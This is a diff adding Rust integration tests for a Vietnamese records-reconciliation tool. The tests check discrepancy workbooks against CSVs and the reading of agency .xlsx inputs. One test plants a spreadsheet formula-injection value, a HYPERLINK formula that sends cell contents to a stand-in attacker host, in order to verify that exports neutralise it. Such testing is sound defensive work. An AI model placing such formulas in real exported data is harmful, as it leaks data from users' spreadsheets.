@@ -1,0 +1,231 @@
+//! Spreadsheets: `discrepancies.xlsx` read back with calamine (sheets, headers, row
+//! counts, no live formula), and `.xlsx` inputs as agencies send them.
+
+use crate::{code, stderr, Work};
+use calamine::{open_workbook_auto, Data, Reader};
+use doisoat::config::Field;
+use std::collections::BTreeMap;
+use std::path::Path;
+
+const HEADERS: [&str; 15] = [
+    "Mã hồ sơ",
+    "Dòng",
+    "Mã xã",
+    "Tên xã/phường",
+    "Mức độ",
+    "Trường",
+    "Giá trị trong hồ sơ",
+    "Giá trị trong CSDL dân cư",
+    "Đề xuất sửa",
+    "Số định danh",
+    "Tầng liên kết",
+    "Điểm liên kết",
+    "Ghi chú",
+    "Mới",
+    "Mã sai lệch",
+];
+
+/// (code, record_id) of every row of a discrepancies.csv, counted.
+fn csv_rows(path: &Path) -> BTreeMap<(String, String), usize> {
+    let mut r = csv::Reader::from_path(path).unwrap();
+    let h = r.headers().unwrap().clone();
+    let col = |n: &str| h.iter().position(|x| x.trim_start_matches('\u{feff}') == n).unwrap();
+    let (c, id) = (col("code"), col("record_id"));
+    let mut out = BTreeMap::new();
+    for rec in r.records() {
+        let rec = rec.unwrap();
+        *out.entry((rec[c].to_string(), rec[id].to_string())).or_default() += 1;
+    }
+    out
+}
+
+fn text(d: &Data) -> String {
+    match d {
+        Data::String(s) => s.clone(),
+        Data::Empty => String::new(),
+        other => other.to_string(),
+    }
+}
+
+/// Every cell of every sheet of a workbook, comma-separated, one line per row.
+pub fn all_text(path: &Path) -> String {
+    let mut book = open_workbook_auto(path).unwrap();
+    let mut out = String::new();
+    for name in book.sheet_names() {
+        for row in book.worksheet_range(&name).unwrap().rows() {
+            out.push(',');
+            out.push_str(&row.iter().map(text).collect::<Vec<_>>().join(","));
+            out.push_str(",\n");
+        }
+    }
+    out
+}
+
+#[test]
+fn discrepancies_xlsx_has_a_summary_and_a_sheet_per_code_matching_the_csv() {
+    let work = Work::new();
+    assert_eq!(code(&work.run_demo("demo", "r1")), 0);
+    let run = work.path().join("demo/runs/r1");
+    for agency in ["civil_status", "insurance", "land", "education"] {
+        let csv = csv_rows(&run.join(agency).join("discrepancies.csv"));
+        let mut book = open_workbook_auto(run.join(agency).join("discrepancies.xlsx")).unwrap();
+        let sheets = book.sheet_names();
+        assert_eq!(sheets[0], "Tổng hợp", "{agency}");
+        let summary = book.worksheet_range("Tổng hợp").unwrap();
+        assert_eq!(text(&summary[(0, 0)]), "Mã xã");
+        assert_eq!(text(&summary[(0, 4)]), "Đúng");
+        assert!(text(&summary[(1, 1)]).starts_with("Toàn bộ"), "{agency}: {:?}", summary[(1, 1)]);
+        let total_rows: usize = csv.values().sum();
+        assert_eq!(summary[(1, 3)], Data::Float(total_rows as f64), "{agency}: discrepancies in the summary");
+
+        let mut from_xlsx: BTreeMap<(String, String), usize> = BTreeMap::new();
+        for name in &sheets[1..] {
+            let range = book.worksheet_range(name).unwrap();
+            let header: Vec<String> = range.rows().next().unwrap().iter().map(text).collect();
+            assert_eq!(header, HEADERS, "{agency}/{name}");
+            for row in range.rows().skip(1) {
+                *from_xlsx.entry((name.clone(), text(&row[0]))).or_default() += 1;
+            }
+        }
+        assert_eq!(from_xlsx, csv, "{agency}: the workbook's rows are the CSV's rows");
+        assert!(sheets.len() > 3, "{agency}: {sheets:?}");
+    }
+}
+
+#[test]
+fn a_hostile_registry_value_is_inert_text_in_csv_and_xlsx() {
+    let work = Work::new();
+    let job = work.demo_job("demo");
+    let bhxh = work.path().join("demo/bhxh.csv");
+    let text_in = std::fs::read_to_string(&bhxh).unwrap();
+    // Record 1201000001 (Giàng A Páo, linked by ID): its name becomes a formula, so the
+    // name comparison writes it into the lists.
+    let hostile = "=HYPERLINK(\"http://evil.example/\"&A1,\"Bấm\")";
+    let quoted = format!("\"{}\"", hostile.replace('"', "\"\""));
+    let patched = text_in.replacen("1201000001,Giàng A Páo", &format!("1201000001,{quoted}"), 1);
+    assert_ne!(patched, text_in);
+    std::fs::write(&bhxh, patched).unwrap();
+    assert_eq!(code(&work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r1"])), 0);
+    let dir = work.path().join("demo/runs/r1/insurance");
+
+    let csv = std::fs::read_to_string(dir.join("discrepancies.csv")).unwrap();
+    assert!(csv.contains("\"'=HYPERLINK("), "the CSV cell is not neutralized");
+    assert!(!csv.contains(",\"=HYPERLINK(") && !csv.contains(",=HYPERLINK("), "a live formula in the CSV");
+
+    let path = dir.join("discrepancies.xlsx");
+    let mut book = open_workbook_auto(&path).unwrap();
+    let mut seen = 0;
+    for name in book.sheet_names() {
+        let formulas = book.worksheet_formula(&name).unwrap();
+        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name} holds a formula");
+        let range = book.worksheet_range(&name).unwrap();
+        seen += range.used_cells().filter(|(_, _, v)| **v == Data::String(hostile.to_string())).count();
+    }
+    assert!(seen >= 1, "the hostile value is not in the workbook as text");
+}
+
+/// The insurance list sent as a workbook: a cover sheet first, a title merged above the
+/// table, blank rows, an address merged down over two rows, dates typed as dates. It
+/// must give the same results as the CSV.
+#[test]
+fn an_xlsx_input_with_cover_sheet_merged_cells_and_blank_rows_reads_like_its_csv() {
+    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
+    let work = Work::new();
+    let job = work.demo_job("csv");
+    assert_eq!(code(&work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r"])), 0);
+
+    let job = work.demo_job("xlsx");
+    let dir = work.path().join("xlsx");
+    let mut r = csv::ReaderBuilder::new().flexible(true).from_path(dir.join("bhxh.csv")).unwrap();
+    let headers: Vec<String> =
+        r.headers().unwrap().iter().map(|h| h.trim_start_matches('\u{feff}').to_string()).collect();
+    // The CSV's short row (a rejected row there) has no equivalent in a workbook: left out.
+    let (rows, short): (Vec<Vec<String>>, Vec<Vec<String>>) = r
+        .records()
+        .map(|x| x.unwrap().iter().map(str::to_string).collect::<Vec<String>>())
+        .partition(|r| r.len() == headers.len());
+    assert_eq!(short.len(), 1);
+    assert_eq!(rows[0][5], rows[1][5], "the first two rows share an address (merged below)");
+    let dob = headers.iter().position(|h| h == "Ngày sinh").unwrap();
+
+    let mut book = Workbook::new();
+    book.add_worksheet().set_name("Ghi chú").unwrap().write_string(0, 0, "Danh sách gửi Công an tỉnh").unwrap();
+    let sheet = book.add_worksheet().set_name("Danh sách").unwrap();
+    sheet.merge_range(0, 0, 0, 7, "DANH SÁCH NGƯỜI THAM GIA BHXH", &Format::new().set_bold()).unwrap();
+    for (c, h) in headers.iter().enumerate() {
+        sheet.write_string(2, c as u16, h).unwrap();
+    }
+    let date = Format::new().set_num_format("dd/mm/yyyy");
+    let mut row = 3u32;
+    for (i, rec) in rows.iter().enumerate() {
+        if i == 4 {
+            row += 1; // a blank row between blocks
+        }
+        for (c, v) in rec.iter().enumerate() {
+            let parts: Vec<u32> = v.split('/').filter_map(|p| p.parse().ok()).collect();
+            let real_date = (parts.len() == 3 && parts[2] > 1900)
+                .then(|| ExcelDateTime::from_ymd(parts[2] as u16, parts[1] as u8, parts[0] as u8).ok())
+                .flatten();
+            if let (true, Some(d)) = (c == dob, real_date) {
+                // Dates typed as dates; an impossible one (31/02) stays text, as Excel keeps it.
+                sheet.write_datetime_with_format(row, c as u16, &d, &date).unwrap();
+            } else if c == 5 && i == 1 {
+                // merged from the row above
+            } else if c == 5 && i == 0 {
+                sheet.merge_range(row, 5, row + 1, 5, v, &Format::new()).unwrap();
+            } else if !v.is_empty() {
+                sheet.write_string(row, c as u16, v).unwrap();
+            }
+        }
+        row += 1;
+    }
+    book.save(dir.join("bhxh.xlsx")).unwrap();
+    // Row by row, the workbook reads as the CSV: the merged address fills both rows,
+    // dates come back as dates, line numbers are the sheet's.
+    let mut problems = Vec::new();
+    let rules = doisoat::config::load_rules(&dir.join("rules/insurance.toml"), &mut problems).unwrap();
+    let from_csv = doisoat::ingest::read(&dir.join("bhxh.csv"), &rules).unwrap();
+    let from_xlsx = doisoat::ingest::read(&dir.join("bhxh.xlsx"), &rules).unwrap();
+    assert_eq!(from_xlsx.rows.len(), from_csv.rows.len());
+    assert_eq!(from_xlsx.rows[0].line, 4, "the first data row is sheet row 4");
+    let fields = [Field::RecordId, Field::FullName, Field::Address, Field::Id, Field::Status];
+    for (x, c) in from_xlsx.rows.iter().zip(&from_csv.rows) {
+        for f in fields {
+            assert_eq!(x.get(&from_xlsx.layout, f), c.get(&from_csv.layout, f), "{f:?} of line {}", x.line);
+        }
+        let (dx, dc) = (x.get(&from_xlsx.layout, Field::Dob), c.get(&from_csv.layout, Field::Dob));
+        let iso = dc.split('/').rev().collect::<Vec<_>>().join("-");
+        assert!(dx == dc || dx == iso, "date {dx} for {dc}");
+    }
+
+    let job_text = std::fs::read_to_string(&job).unwrap().replace("file = \"bhxh.csv\"", "file = \"bhxh.xlsx\"");
+    std::fs::write(&job, job_text).unwrap();
+    let out = work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r"]);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+
+    let mut a = csv_rows(&work.path().join("csv/runs/r/insurance/discrepancies.csv"));
+    a.retain(|(_, id), _| *id != short[0][0]);
+    let b = csv_rows(&work.path().join("xlsx/runs/r/insurance/discrepancies.csv"));
+    assert_eq!(a, b, "the workbook gives other discrepancies than the CSV");
+    let m = crate::manifest(&work.path().join("xlsx/runs/r"));
+    let input =
+        m["inputs"].as_array().unwrap().iter().find(|i| i["path"].as_str().unwrap().ends_with("bhxh.xlsx")).unwrap();
+    assert_eq!(input["rows"].as_u64().unwrap(), rows.len() as u64, "blank rows are not records");
+}
+
+#[test]
+fn an_xlsx_input_without_the_mapped_columns_names_the_file_and_column() {
+    let work = Work::new();
+    let job = work.demo_job("demo");
+    let mut book = rust_xlsxwriter::Workbook::new();
+    let sheet = book.add_worksheet();
+    sheet.write_string(0, 0, "Mã số BHXH").unwrap();
+    sheet.write_string(1, 0, "1201000001").unwrap();
+    book.save(work.path().join("demo/bhxh.xlsx")).unwrap();
+    let job_text = std::fs::read_to_string(&job).unwrap().replace("file = \"bhxh.csv\"", "file = \"bhxh.xlsx\"");
+    std::fs::write(&job, job_text).unwrap();
+    let out = work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r"]);
+    assert_eq!(code(&out), 2, "{}", stderr(&out));
+    let err = stderr(&out);
+    assert!(err.contains("bhxh.xlsx") && err.contains("Họ và tên"), "{err}");
+}
